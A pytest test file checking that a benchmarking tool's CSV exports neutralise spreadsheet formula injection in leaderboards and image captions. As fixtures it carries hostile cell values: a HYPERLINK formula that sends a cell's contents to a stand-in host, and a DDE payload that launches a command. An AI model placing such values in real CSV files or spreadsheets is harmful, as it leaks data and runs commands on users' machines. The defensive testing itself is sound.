"""Issue #20, item 7: no CSV genbench writes holds a cell a spreadsheet would run as a
formula (a plugin's name and version, an error message, a caption reach cells raw)."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest

from genbench.bench.leaderboard import write_tables
from genbench.bench.report import write_pages
from genbench.bench.store import SCHEMA, ResultStore
from genbench.csv_cells import safe_cell
from genbench.data import ArraySplit
from genbench.data.export import export_png_folder

HOSTILE = '=HYPERLINK("https://example.invalid/?"&A1,"details")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),  # text that reads as a number is a number to the spreadsheet too
        ("1e-3", "1e-3"),
        ("'=1", "'=1"),  # already inert: applying it again changes nothing
        ("genbench-gan", "genbench-gan"),
        (-0.25, -0.25),
        (3, 3),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written
    assert safe_cell(safe_cell(value)) == written


def _row(**changes: object) -> dict[str, object]:
    return {
        "model": "toy.a",
        "family": "toy",
        "plugin": HOSTILE,
        "plugin_version": "+1-1",
        "dataset": "toy",
        "task": "unconditional",
        "config_id": "c1",
        "timestamp": "2026-01-01T00:00:00+00:00",
        "status": "ok",
        "error": "",
        "warnings": "@risk",
        "schema": SCHEMA,
        "primary_metric": "fid",
        "higher_is_better": False,
        "fid": -0.5,
        "images_per_s": 10.0,
        "n_samples": 10,
        "n_reference": 10,
        "seed": 0,
        "features": "net",
        "resize": "none",
        "split": "train",
        "reproduce": "genbench run --models toy.a",
        "grid": None,
        **changes,
    }


def _cells(path: Path) -> dict[str, str]:
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 1
    return rows[0]


def test_run_leaderboard_csv_cells_are_inert(tmp_path):
    (path,) = write_tables([_row()], tmp_path)
    cells = _cells(path)
    assert cells["plugin"] == "'" + HOSTILE
    assert cells["plugin_version"] == "'+1-1" and cells["warnings"] == "'@risk"
    assert cells["fid"] == "-0.5"  # a number stays a number


def test_published_csv_cells_stay_inert_when_republished(tmp_path):
    ResultStore(tmp_path / "run").write(_row())
    published = tmp_path / "leaderboards"
    for sources in ([tmp_path / "run"], [published, tmp_path / "run"]):
        write_pages(sources, published)
        cells = _cells(published / "toy" / "unconditional.csv")
        assert cells["plugin"] == "'" + HOSTILE and cells["plugin_version"] == "'+1-1"


def test_exported_captions_are_inert(tmp_path):
    split = ArraySplit(
        {
            "image": np.zeros((2, 1, 4, 4), np.uint8),
            "label": np.array([0, 1]),
            "caption": np.array(["=cmd|' /C calc'!A0", "a plain caption"]),
        },
        "captions",
    )
    export_png_folder(split, tmp_path / "out")
    with open(tmp_path / "out" / "labels.csv", newline="", encoding="utf-8") as file:
        captions = [row["caption"] for row in csv.DictReader(file)]
    assert captions == ["'=cmd|' /C calc'!A0", "a plain caption"]
